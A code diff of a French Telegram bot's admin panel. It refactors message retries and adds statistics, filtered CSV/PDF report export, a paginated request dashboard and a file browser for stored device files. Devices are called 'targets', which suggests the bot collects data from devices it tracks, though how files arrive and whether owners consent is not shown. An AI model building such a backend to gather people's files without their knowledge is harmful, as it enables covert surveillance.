-    reply_markup = ReplyKeyboardMarkup(keyboard, resize_keyboard=True)
+    reply_markup = menus.ADMIN_MENU_MARKUP
     
-    for attempt in range(3):
-        try:
-            await update.message.reply_text(
-                "🛠️ Panel Admin - Sélectionnez une option:",
-                reply_markup=reply_markup
-            )
-            break
-        except telegram.error.TimedOut:
-            logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-            await asyncio.sleep(2)
-    else:
-        await update.message.reply_text(
-            "❌ Échec de connexion à Telegram après plusieurs tentatives. Veuillez réessayer plus tard."
-        )
+    if await sender.reply(
+        update,
+        "🛠️ Panel Admin - Sélectionnez une option:",
+        reply_markup=reply_markup
+    ) is None:
+        return ConversationHandler.END
+    
+    return CATEGORY_SELECTION
+
+async def statistics(update: Update, context: ContextTypes.DEFAULT_TYPE):
+    """Affiche les statistiques de stockage des cibles"""
+    user_id = update.effective_user.id
+    if user_id not in ADMIN_IDS:
+        await sender.reply(update, "❌ Accès refusé.")
         return ConversationHandler.END
     
+    # /stats <id> : détail par catégorie d'une cible
+    if context.args:
+        target_id = context.args[0]
+        rows = await async_db.run(database.get_category_storage, DB_NAME, target_id)
+        size, files = storage_usage.usage(target_id)
+        lines = [f"💾 Espace utilisé par {target_id} : {file_manager.format_size(size)} ({files} fichiers)"]
+        lines.extend(f"- {category} : {file_manager.format_size(b)} ({n})" for category, b, n in rows)
+        await sender.reply(update, "\n".join(lines))
+        return CATEGORY_SELECTION
+    
+    saved = file_manager.layout_savings()
+    top = await async_db.run(database.get_top_storage, DB_NAME, STATS_TOP_DEVICES)
+    lines = [
+        "📈 Statistiques",
+        f"- Cibles enregistrées : {len(file_manager.registered_devices())}",
+        f"- Dossiers de catégorie non créés (inodes économisés) : {saved}",
+        f"- Espace utilisé : {file_manager.format_size(storage_usage.usage())}",
+        "",
+        "💾 Cibles les plus volumineuses :"
+    ]
+    lines.extend(
+        f"- {device} : {file_manager.format_size(size)} ({files} fichiers)" for device, size, files in top
+    )
+    if not top:
+        lines.append("- Aucun fichier enregistré")
+    response = "\n".join(lines)
+    if await sender.reply(update, response) is None:
+        return ConversationHandler.END
+    
+    # Reafficher le menu admin
+    reply_markup = menus.ADMIN_MENU_MARKUP
+    await sender.reply(
+        update,
+        "Sélectionnez une autre option:",
+        reply_markup=reply_markup
+    )
     return CATEGORY_SELECTION
 
 async def list_targets(update: Update, context: ContextTypes.DEFAULT_TYPE):
     """Affiche la liste des cibles enregistrées"""
-    targets = file_manager.list_devices(DATA_PATH)
+    targets = file_manager.registered_devices()
     
     if targets:
         response = "📋 Cibles enregistrées:\n" + "\n".join([f"- {t}" for t in targets])
     else:
         response = "ℹ️ Aucune cible enregistrée."
     
-    for attempt in range(3):
-        try:
-            await update.message.reply_text(response)
-            break
-        except telegram.error.TimedOut:
-            logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-            await asyncio.sleep(2)
-    else:
-        await update.message.reply_text(
-            "❌ Échec de connexion à Telegram après plusieurs tentatives. Veuillez réessayer plus tard."
-        )
+    if await sender.reply(update, response) is None:
         return ConversationHandler.END
     
     # Reafficher le menu admin
-    keyboard = get_admin_keyboard()
-    reply_markup = ReplyKeyboardMarkup(keyboard, resize_keyboard=True)
-    for attempt in range(3):
-        try:
-            await update.message.reply_text(
-                "Sélectionnez une autre option:",
-                reply_markup=reply_markup
-            )
-            break
-        except telegram.error.TimedOut:
-            logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-            await asyncio.sleep(2)
+    reply_markup = menus.ADMIN_MENU_MARKUP
+    await sender.reply(
+        update,
+        "Sélectionnez une autre option:",
+        reply_markup=reply_markup
+    )
     return CATEGORY_SELECTION
 
 async def delete_target(update: Update, context: ContextTypes.DEFAULT_TYPE):
     """Supprime une cible spécifique"""
     user_id = update.effective_user.id
     if user_id not in ADMIN_IDS:
-        await update.message.reply_text("❌ Accès refusé.")
+        await sender.reply(update, "❌ Accès refusé.")
         return ConversationHandler.END
     
     if not context.args:
-        await update.message.reply_text("Usage: /delete_target <id>")
+        await sender.reply(update, "Usage: /delete_target <id>")
         return CATEGORY_SELECTION
     
     target_id = context.args[0]
-    if file_manager.delete_device_folder(target_id):
-        database.delete_device(DB_NAME, target_id)
-        for attempt in range(3):
-            try:
-                await update.message.reply_text(f"✅ Cible {target_id} supprimée.")
-                break
-            except telegram.error.TimedOut:
-                logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-                await asyncio.sleep(2)
+    if await async_db.delete_device_folder(target_id):
+        await storage_usage.forget(target_id)
+        await telegram_files.forget(os.path.join(DATA_PATH, target_id))
+        await async_db.run(report_cache.forget_device, DB_NAME, target_id)
+        await sender.reply(update, f"✅ Cible {target_id} supprimée.")
     else:
-        for attempt in range(3):
-            try:
-                await update.message.reply_text(f"❌ Erreur lors de la suppression de {target_id}.")
-                break
-            except telegram.error.TimedOut:
-                logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-                await asyncio.sleep(2)
+        await sender.reply(update, f"❌ Erreur lors de la suppression de {target_id}.")
     
     # Reafficher le menu admin
-    keyboard = get_admin_keyboard()
-    reply_markup = ReplyKeyboardMarkup(keyboard, resize_keyboard=True)
-    for attempt in range(3):
-        try:
-            await update.message.reply_text(
-                "Sélectionnez une autre option:",
-                reply_markup=reply_markup
-            )
-            break
-        except telegram.error.TimedOut:
-            logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-            await asyncio.sleep(2)
+    reply_markup = menus.ADMIN_MENU_MARKUP
+    await sender.reply(
+        update,
+        "Sélectionnez une autre option:",
+        reply_markup=reply_markup
+    )
     return CATEGORY_SELECTION
 
+async def deliver_report(bot, chat_id, job_id, future, document_name, temporary):
+    """Attend la fin d'un rapport généré en arrière-plan puis l'envoie.
+
+    Un rapport temporaire (export filtré) est supprimé après l'envoi; un rapport
+    complet reste en cache et son file_id Telegram est réutilisé tant qu'il ne change pas.
+    Un rapport PDF se compose de plusieurs fichiers (synthèse puis volumes).
+    """
+    filenames = []
+    try:
+        result = await future
+        filenames = [result] if isinstance(result, str) else list(result)
+        stem, ext = os.path.splitext(document_name)
+        for filename in filenames:
+            if len(filenames) > 1:
+                # report_resume.pdf, report_001.pdf... -> <id>_report_resume.pdf, <id>_report_001.pdf...
+                label = os.path.splitext(filename)[0].rsplit('_', 1)[-1]
+                name = f"{stem}_{label}{ext}"
+            else:
+                name = document_name
+            send = telegram_files.send_file if temporary else telegram_files.send_document
+            await sender.call(
+                send, bot, chat_id, filename,
+                filename=name, caption=f"📤 Rapport {job_id}", chat=chat_id, priority=sender.BULK
+            )
+    except Exception as e:
+        logger.error(f"Erreur lors de l'export {job_id}: {str(e)}")
+        await sender.send_message(bot, chat_id, f"❌ Erreur lors de la génération du rapport {job_id}.")
+    finally:
+        if temporary:
+            for filename in filenames:
+                try:
+                    os.unlink(filename)
+                except OSError:
+                    pass
+
+def parse_export_options(args):
+    """Analyse les options de /export : gzip, summary, since=AAAA-MM-JJ, until=AAAA-MM-JJ, action=A,B"""
+    options = {}
+    for arg in args:
+        key, _, value = arg.partition('=')
+        key = key.lower()
+        if key in ('gzip', 'gz') and not value:
+            options['compress'] = True
+        elif key in ('summary', 'resume') and not value:
+            options['summary_only'] = True
+        elif key in ('since', 'until') and value:
+            try:
+                day = datetime.strptime(value, '%Y-%m-%d')
+            except ValueError:
+                raise ValueError(arg) from None
+            if key == 'until':
+                day += timedelta(days=1)  # Date de fin incluse
+            options[key] = day.strftime('%Y-%m-%d %H:%M:%S')
+        elif key == 'action' and value:
+            options['actions'] = [a.strip().upper() for a in value.split(',') if a.strip()]
+        else:
+            raise ValueError(arg)
+    return options
+
 async def export_logs(update: Update, context: ContextTypes.DEFAULT_TYPE):
     """Exporte les logs d'une cible spécifique"""
     user_id = update.effective_user.id
     if user_id not in ADMIN_IDS:
-        await update.message.reply_text("❌ Accès refusé.")
+        await sender.reply(update, "❌ Accès refusé.")
         return ConversationHandler.END
     
+    usage = (
+        "Usage: /export <id> [csv|pdf] [gzip|summary] "
+        "[since=AAAA-MM-JJ] [until=AAAA-MM-JJ] [action=UPLOAD,CONSULT]"
+    )
     if not context.args:
-        await update.message.reply_text("Usage: /export <id> [csv|pdf]")
+        await sender.reply(update, usage)
         return CATEGORY_SELECTION
     
     target_id = context.args[0]
     format_type = context.args[1] if len(context.args) > 1 else "csv"
     
+    # L'identifiant entre dans les chemins du cache des rapports (dossier supprimé à chaque génération)
+    if not validation.validate_device_id(target_id):
+        await sender.reply(update, "❌ Identifiant de cible invalide.")
+        return CATEGORY_SELECTION
+    
+    if format_type not in report_jobs.FORMATS:
+        await sender.reply(update, "❌ Format non supporté. Utilisez 'csv' ou 'pdf'.")
+        return CATEGORY_SELECTION
+    
     try:
-        if format_type == "csv":
-            filename = report_generator.generate_csv(DB_NAME, target_id)
-            for attempt in range(3):
-                try:
-                    await context.bot.send_document(
-                        chat_id=update.effective_chat.id,
-                        document=open(filename, 'rb'),
-                        filename=f"{target_id}_logs.csv"
-                    )
-                    break
-                except telegram.error.TimedOut:
-                    logger.warning(f"Timeout lors de l'envoi du fichier CSV, tentative {attempt + 1}/3")
-                    await asyncio.sleep(2)
-        elif format_type == "pdf":
-            filename = report_generator.generate_pdf(DB_NAME, target_id)
-            for attempt in range(3):
-                try:
-                    await context.bot.send_document(
-                        chat_id=update.effective_chat.id,
-                        document=open(filename, 'rb'),
-                        filename=f"{target_id}_report.pdf"
-                    )
-                    break
-                except telegram.error.TimedOut:
-                    logger.warning(f"Timeout lors de l'envoi du fichier PDF, tentative {attempt + 1}/3")
-                    await asyncio.sleep(2)
-        else:
-            await update.message.reply_text("❌ Format non supporté. Utilisez 'csv' ou 'pdf'.")
+        options = parse_export_options(context.args[2:])
+    except ValueError as e:
+        await sender.reply(update, f"❌ Option invalide : {e}\n{usage}")
+        return CATEGORY_SELECTION
+    
+    _, suffix = report_jobs.FORMATS[format_type]
+    if options.get('compress'):
+        if format_type != 'csv':
+            await sender.reply(update, "❌ La compression gzip n'est disponible que pour le CSV.")
             return CATEGORY_SELECTION
-    except Exception as e:
-        logger.error(f"Erreur lors de l'export: {str(e)}")
-        await update.message.reply_text("❌ Erreur lors de la génération du rapport.")
+        suffix += '.gz'
+    if options.get('summary_only') and format_type != 'pdf':
+        await sender.reply(update, "❌ Le mode synthèse n'est disponible que pour le PDF.")
+        return CATEGORY_SELECTION
+    
+    # Génération dans un processus séparé : le bot reste disponible pour les autres utilisateurs
+    try:
+        job_id, future = report_jobs.submit(format_type, DB_NAME, target_id, **options)
+    except report_jobs.TooManyJobs:
+        await sender.reply(update, "⏳ Trop de rapports en cours. Réessayez dans quelques minutes.")
+        return CATEGORY_SELECTION
+    
+    context.application.create_task(
+        deliver_report(
+            context.bot, update.effective_chat.id, job_id, future, f"{target_id}{suffix}", temporary=bool(options)
+        ),
+        update=update
+    )
+    
+    await sender.reply(
+        update,
+        f"🕐 Rapport {job_id} en préparation ({format_type.upper()} pour {target_id}). "
+        "Il vous sera envoyé dès qu'il sera prêt."
+    )
     
     # Reafficher le menu admin
-    keyboard = get_admin_keyboard()
-    reply_markup = ReplyKeyboardMarkup(keyboard, resize_keyboard=True)
-    for attempt in range(3):
-        try:
-            await update.message.reply_text(
-                "Sélectionnez une autre option:",
-                reply_markup=reply_markup
-            )
-            break
-        except telegram.error.TimedOut:
-            logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-            await asyncio.sleep(2)
+    reply_markup = menus.ADMIN_MENU_MARKUP
+    await sender.reply(
+        update,
+        "Sélectionnez une autre option:",
+        reply_markup=reply_markup
+    )
     return CATEGORY_SELECTION
 
+def format_dashboard_summary(summary):
+    """Met en forme les agrégats du tableau de bord"""
+    lines = ["📊 Tableau de bord des requêtes", "", "👤 Par utilisateur :"]
+    lines.extend(f"- {user} : {count}" for user, count in summary['by_user'])
+    lines += ["", "🎯 Par cible :"]
+    lines.extend(f"- {device} : {count}" for device, count in summary['by_device'])
+    lines += ["", "📅 Par jour :"]
+    lines.extend(f"- {day} : {count}" for day, count in summary['by_day'])
+    lines += ["", "🕐 Par heure (24 dernières) :"]
+    lines.extend(f"- {hour}h : {count}" for hour, count in summary['by_hour'])
+    return "\n".join(lines)
+
+def build_dashboard_page(rows, has_older, has_newer):
+    """Construit le texte et les boutons d'une page de détail du tableau de bord"""
+    lines = ["🗂️ Détail des requêtes :", ""]
+    lines.extend(f"{ts} — Utilisateur {user} → {device}" for _, user, device, ts in rows)
+    
+    # La clé (id, timestamp) de la première/dernière ligne sert de curseur
+    buttons = []
+    if has_newer:
+        first = rows[0]
+        buttons.append(InlineKeyboardButton("⬅️ Précédent", callback_data=f"dash:n:{first[0]}:{first[3]}"))
+    if has_older:
+        last = rows[-1]
+        buttons.append(InlineKeyboardButton("Suivant ➡️", callback_data=f"dash:o:{last[0]}:{last[3]}"))
+    
+    reply_markup = InlineKeyboardMarkup([buttons]) if buttons else None
+    return "\n".join(lines), reply_markup
+
 async def dashboard(update: Update, context: ContextTypes.DEFAULT_TYPE):
     """Affiche le tableau de bord des requêtes utilisateurs"""
     user_id = update.effective_user.id
     if user_id not in ADMIN_IDS:
-        await update.message.reply_text("❌ Accès refusé.")
+        await sender.reply(update, "❌ Accès refusé.")
         return ConversationHandler.END
     
     try:
-        conn = sqlite3.connect(DB_NAME)
-        c = conn.cursor()
-        c.execute("SELECT user_id, device_id, timestamp FROM user_requests ORDER BY timestamp DESC")
-        requests = c.fetchall()
-        conn.close()
-        
-        if requests:
-            response = "📊 Tableau de bord des requêtes:\n\n"
-            for req in requests:
-                response += f"Utilisateur ID: {req[0]}\nCible: {req[1]}\nDate: {req[2]}\n---\n"
+        rows, has_older = await async_db.get_user_requests_page(DB_NAME, limit=DASHBOARD_PAGE_SIZE)
+        
+        if rows:
+            summary = await async_db.get_dashboard_summary(DB_NAME)
+            messages = [
+                (format_dashboard_summary(summary), None),
+                build_dashboard_page(rows, has_older, has_newer=False)
+            ]
         else:
-            response = "ℹ️ Aucune requête enregistrée."
+            messages = [("ℹ️ Aucune requête enregistrée.", None)]
         
-        for attempt in range(3):
-            try:
-                await update.message.reply_text(response)
-                break
-            except telegram.error.TimedOut:
-                logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-                await asyncio.sleep(2)
+        for text, reply_markup in messages:
+            await sender.reply(update, text, reply_markup=reply_markup)
         
         # Reafficher le menu admin
-        keyboard = get_admin_keyboard()
-        reply_markup = ReplyKeyboardMarkup(keyboard, resize_keyboard=True)
-        for attempt in range(3):
-            try:
-                await update.message.reply_text(
-                    "Sélectionnez une autre option:",
-                    reply_markup=reply_markup
-                )
-                break
-            except telegram.error.TimedOut:
-                logger.warning(f"Timeout lors de l'envoi du message, tentative {attempt + 1}/3")
-                await asyncio.sleep(2)
+        reply_markup = menus.ADMIN_MENU_MARKUP
+        await sender.reply(
+            update,
+            "Sélectionnez une autre option:",
+            reply_markup=reply_markup
+        )
         return CATEGORY_SELECTION
     
     except Exception as e:
         logger.error(f"Erreur dans dashboard: {str(e)}")
-        await update.message.reply_text("❌ Erreur lors de l'affichage du tableau de bord.")
+        await sender.reply(update, "❌ Erreur lors de l'affichage du tableau de bord.")
         return CATEGORY_SELECTION
 
+async def dashboard_page(update: Update, context: ContextTypes.DEFAULT_TYPE):
+    """Navigue entre les pages de détail du tableau de bord"""
+    query = update.callback_query
+    if query.from_user.id not in ADMIN_IDS:
+        await sender.safe(query.answer, "❌ Accès refusé.")
+        return
+    
+    try:
+        _, direction, request_id, timestamp = query.data.split(':', 3)
+        key = (timestamp, int(request_id))
+        if direction == 'o':
+            rows, has_older = await async_db.get_user_requests_page(DB_NAME, before=key, limit=DASHBOARD_PAGE_SIZE)
+            has_newer = True
+        else:
+            rows, has_newer = await async_db.get_user_requests_page(DB_NAME, after=key, limit=DASHBOARD_PAGE_SIZE)
+            has_older = True
+        
+        if not rows:
+            await sender.safe(query.answer, "ℹ️ Aucune autre requête.")
+            return
+        
+        text, reply_markup = build_dashboard_page(rows, has_older, has_newer)
+        await sender.safe(query.answer)
+        await sender.safe(query.edit_message_text, text, reply_markup=reply_markup, chat=query.message.chat_id)
+    except Exception as e:
+        logger.error(f"Erreur dans dashboard_page: {str(e)}")
+        await sender.safe(query.answer, "❌ Erreur lors de l'affichage du tableau de bord.")
+
+async def file_browser_page(update: Update, context: ContextTypes.DEFAULT_TYPE):
+    """Navigue dans l'explorateur de fichiers et envoie le fichier choisi"""
+    query = update.callback_query
+    
+    try:
+        device_id = context.user_data.get('current_device')
+        category_path = context.user_data.get('current_category')
+        parts = query.data.split(':')
+        
+        if parts[1] == 'x':
+            await sender.safe(query.answer)
+            return
+        # Les boutons d'un autre dossier (ancien message) ne sont plus valides
+        if not device_id or not category_path or parts[2] != file_browser.short_id(category_path):
+            await sender.safe(query.answer, "❌ Liste expirée. Rouvrez la catégorie.")
+            return
+        
+        if parts[1] == 'p':
+            _, _, _, sort, page, searching = parts
+            prefix = context.user_data.get('file_search') if searching == '1' else None
+            text, reply_markup = file_browser.build_page(
+                category_path, context.user_data.get('current_subcategory', ''), sort, int(page), prefix
+            )
+            await sender.safe(query.answer)
+            await sender.safe(query.edit_message_text, text, reply_markup=reply_markup, chat=query.message.chat_id)
+            return
+        
+        file_name = file_browser.resolve(category_path, parts[3])
+        if file_name is None:
+            await sender.safe(query.answer, "❌ Fichier introuvable.")
+            return
+        
+        file_path = os.path.join(category_path, file_name)
+        await sender.safe(query.answer)
+        await async_db.log_activity(DB_NAME, device_id, "CONSULT", file_path)
+        await sender.safe(
+            telegram_files.send_document,
+            context.bot,
+            query.message.chat_id,
+            file_path,
+            filename=file_name,
+            chat=query.message.chat_id,
+            priority=sender.BULK
+        )
+    except Exception as e:
+        logger.error(f"Erreur dans file_browser_page: {str(e)}")
+        await sender.safe(query.answer, "❌ Erreur lors de l'affichage des fichiers.")
+
 async def cancel(update: Update, context: ContextTypes.DEFAULT_TYPE):
     """Annule la conversation et réinitialise complètement"""
     context.user_data.clear()
-    await update.message.reply_text(
+    await sender.reply(
+        update,
         "✅ Opération annulée. Tapez /start pour recommencer.",
-        reply_markup=ReplyKeyboardRemove()
+        reply_markup=menus.REMOVE_KEYBOARD
     )
     return ConversationHandler.END
 
@@ -910,7 +873,8 @@ async def error_handler(update: object, context: ContextTypes.DEFAULT_TYPE):
     
     if update and isinstance(update, Update):
         try:
-            await update.message.reply_text(
+            await sender.reply(
+                update,
                 "❌ Une erreur critique s'est produite. "
                 "Veuillez utiliser /start pour réinitialiser le bot.\n\n"
                 f"Erreur: {str(context.error)[:200]}"
@@ -920,9 +884,64 @@ async def error_handler(update: object, context: ContextTypes.DEFAULT_TYPE):
     
     return ConversationHandler.END
 
+async def reconcile_storage(context: ContextTypes.DEFAULT_TYPE):
+    """Recalcule depuis le disque l'index de l'espace utilisé (corrige les écarts)"""
+    try:
+        drift = await storage_usage.reconcile(file_manager.registered_devices())
+        if drift:
+            logger.info(f"Index de l'espace utilisé corrigé de {drift} octets")
+    except Exception as e:
+        logger.error(f"Erreur lors du recalcul de l'espace utilisé: {str(e)}")
+
+async def on_startup(application):
+    """Reprogramme les attentes interrompues par un redémarrage"""
+    restored = await persistence.restore_jobs(application.job_queue, [end_waiting])
+    if restored:
+        logger.info(f"{restored} attente(s) reprogrammée(s)")
+    
+    # Index vide (première exécution) : calculé tout de suite, sinon au prochain intervalle
+    indexed = await async_db.run(storage_usage.load, DB_NAME)
+    first = STORAGE_RECONCILE_INTERVAL if indexed else 0
+    application.job_queue.run_repeating(reconcile_storage, STORAGE_RECONCILE_INTERVAL, first=first)
+
+async def on_shutdown(application):
+    """Libère les ressources asynchrones à l'arrêt du bot"""
+    await uploads.close()
+    report_jobs.shutdown()
+    sender.limiter.close()
+    logger.info(f"Envois Telegram : {sender.report()}")
+
 def run_bot():
     """Démarre le bot avec une gestion robuste"""
-    application = ApplicationBuilder().token(BOT_TOKEN).read_timeout(10).write_timeout(10).build()
+    # Initialisation de la base de données et de l'index des appareils
+    # (ici et non à l'import : les processus de rapports réimportent ce module)
+    database.init_db(DB_NAME)
+    # Avant l'index : une suppression interrompue avant le déplacement du dossier est terminée
+    resumed = trash.resume(DB_NAME)
+    if resumed:
+        logger.info(f"{resumed} suppression(s) d'appareil reprise(s)")
+    file_manager.load_device_index(DB_NAME, DATA_PATH)
+    uploads.cleanup_incoming()
+    
+    builder = (
+        ApplicationBuilder()
+        .token(BOT_TOKEN)
+        .read_timeout(10)
+        .write_timeout(10)
+        .persistence(persistence.SQLitePersistence(DB_NAME))
+        .post_init(on_startup)
+        .post_shutdown(on_shutdown)
+    )
+    if CONCURRENT_UPDATES > 0:
+        # Utilisateurs traités en parallèle; l'ordre par utilisateur est garanti par OrderedApplication.
+        # La limite de PTB (prise avant process_update) reste au-dessus de WEBHOOK_MAX_PENDING :
+        # toute mise à jour retirée de la file est comptée dans pending_updates.
+        builder = (
+            builder
+            .concurrent_updates(max(256, WEBHOOK_MAX_PENDING))
+            .application_class(ordering.OrderedApplication, {'max_concurrent': CONCURRENT_UPDATES})
+        )
+    application = builder.build()
     
     application.add_handler(CommandHandler('reset', reset_command))
     
@@ -939,7 +958,8 @@ def run_bot():
                 MessageHandler(filters.TEXT & ~filters.COMMAND, handle_waiting)
             ],
             CATEGORY_SELECTION: [
-                MessageHandler(filters.Regex(r'^(📋 Liste des cibles|🗑️ Supprimer une cible|📈 Statistiques|📤 Exporter les logs|📊 Tableau de bord|⬅️ Retour au menu principal)$'), admin_command),
+                MessageHandler(filters.Text([menus.STATS_BUTTON]), statistics),
+                MessageHandler(filters.Text(menus.ADMIN_BUTTONS | {menus.BACK_TO_MAIN}), admin_command),
                 MessageHandler(filters.TEXT & ~filters.COMMAND, handle_category_selection)
             ],
             SUBCATEGORY_SELECTION: [
@@ -954,7 +974,9 @@ def run_bot():
             CommandHandler('cancel', cancel),
             CommandHandler('start', start),
             CommandHandler('reset', reset_command)
-        ]
+        ],
+        name='conversation',
+        persistent=True
     )
     
     # Commandes admin
@@ -962,13 +984,25 @@ def run_bot():
     application.add_handler(CommandHandler('delete_target', delete_target))
     application.add_handler(CommandHandler('export', export_logs))
     application.add_handler(CommandHandler('dashboard', dashboard))
+    application.add_handler(CommandHandler('stats', statistics))
+    application.add_handler(CallbackQueryHandler(dashboard_page, pattern=r'^dash:'))
+    application.add_handler(CallbackQueryHandler(file_browser_page, pattern=r'^fb:'))
     application.add_handler(conv_handler)
     
     # Gestion des erreurs
     application.add_error_handler(error_handler)
     
     logger.info("Bot démarré avec succès!")
-    application.run_polling(timeout=20)  # Augmenter le timeout de polling
+    try:
+        if BOT_MODE == 'webhook':
+            asyncio.run(webhook.run(application))
+        else:
+            application.run_polling(timeout=20)  # Augmenter le timeout de polling
+    finally:
+        trash.shutdown()
+        async_db.shutdown()
+        activity_log.stop_all()
+        database.close_connections()
 
 if __name__ == '__main__':
     run_bot()